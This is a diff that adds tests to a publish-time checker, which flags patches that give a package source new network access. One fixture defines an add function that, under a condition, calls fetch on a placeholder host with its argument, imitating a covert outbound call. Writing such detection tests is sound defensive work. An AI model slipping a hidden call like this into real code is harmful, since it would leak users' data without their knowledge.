@@ -12,8 +12,8 @@ import {
 } from '../support/repositories.ts';
 
 /** Examines the patch that turns the package into one with these files, as `publish` does. */
-async function examine(files: Files, allow: readonly string[] = []) {
-  const root = repositoryWith(NODE_TEST_FILES);
+async function examine(files: Files, allow: readonly string[] = [], others: Files = {}) {
+  const root = repositoryWith({ ...NODE_TEST_FILES, ...others });
   const head = git(root, 'rev-parse', 'HEAD').trim();
   git(root, 'checkout', '--quiet', '-b', 'change');
   writeFiles(root, files);
@@ -47,4 +47,28 @@ test('a dependency needs --allow', async () => {
 
 test('an entry point of package.json needs none', async () => {
   expect((await examine({ 'package.json': { ...manifest, main: 'src/add.js' } })).problem).toBeUndefined();
+});
+
+const SENDS =
+  "export const add = (a, b) => {\n  if (a > 9) fetch('http://x.example/' + a);\n  return a + b;\n};\n";
+
+test('a source that can do what its package could not is refused', async () => {
+  const { problem } = await examine({ 'src/add.js': SENDS });
+  expect(problem).toBe(
+    'The patch changes "src/add.js" so that it uses the network, which no source of its package does; --allow "src/add.js" permits it.',
+  );
+  expect((await examine({ 'src/check/new.js': SENDS })).problem).toContain('uses the network');
+  expect((await examine({ 'src/add.js': SENDS }, ['src/add.js'])).problem).toBeUndefined();
+  expect((await examine({ 'test/server.test.js': SENDS }, ['test/**'])).problem).toBeUndefined();
+});
+
+test('a source may do what another source of its package does', async () => {
+  const others = { 'src/client.js': SENDS, 'package.json': manifest };
+  expect((await examine({ 'src/add.js': SENDS }, [], others)).problem).toBeUndefined();
+  const apart = {
+    'other/package.json': { name: 'other' },
+    'other/client.js': SENDS,
+    'scripts/get.js': SENDS,
+  };
+  expect((await examine({ 'src/add.js': SENDS }, [], apart)).problem).toContain('uses the network');
 });
